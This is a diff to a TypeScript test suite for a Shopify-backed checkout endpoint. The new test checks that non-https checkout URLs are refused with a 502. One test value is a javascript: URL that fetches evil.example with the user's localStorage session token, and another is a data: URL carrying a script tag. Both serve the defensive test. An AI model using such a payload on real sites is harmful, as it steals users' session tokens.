@@ -10,6 +10,7 @@ import { errorOf, registeredPlayer } from '../../../test/wearables.ts';
 import { CACHE_MS, STALE_MS } from '../../shop/shopify.ts';
 import { EnvError, parseEnv } from '../../env.ts';
 import { CART_CREATE_MUTATION, CATALOGUE_QUERY } from '../../shop/shopify-queries.ts';
+import { SHOP_MESSAGES } from '../../../../domain/shop-rules.ts';
 
 const gid = (kind: string, n: number) => `gid://shopify/${kind}/${n}`;
 const money = (amount: string, currencyCode: string) => ({ amount, currencyCode });
@@ -207,6 +208,20 @@ describe('SHOP_PROVIDER=shopify: POST /api/shop/checkout', () => {
     // A cat holder may buy the pin.
     await t.deps.database.db.insert(avatars).values({ type: 'CAT', token_id: 7001, profile_id: me.id });
     expect((await checkout(t.app, me.token, [{ id: gid('ProductVariant', 31), quantity: 1 }])).status).toBe(200);
+  }, 60_000);
+
+  test('a checkout address that is not https is never handed to the page: 502, as an unreachable store', async () => {
+    const me = await registeredPlayer(t.app);
+    try {
+      for (const url of ['javascript:fetch("//evil.example/?t="+localStorage.session)', 'http://town-merch.myshopify.com/cart/c/1', 'data:text/html,<script>1</script>', 'not a url']) {
+        storefront.checkoutUrl(url);
+        const res = await checkout(t.app, me.token, [{ id: gid('ProductVariant', 11), quantity: 1 }]);
+        expect([url, res.status as number, await errorOf(res)]).toEqual([url, 502, SHOP_MESSAGES.storeUnavailable]);
+      }
+    } finally {
+      storefront.checkoutUrl(null);
+    }
+    expect((await checkout(t.app, me.token, [{ id: gid('ProductVariant', 11), quantity: 1 }])).status).toBe(200);
   }, 60_000);
 
   test("Shopify's own word wins: a line it could not fill is 409 with its message", async () => {
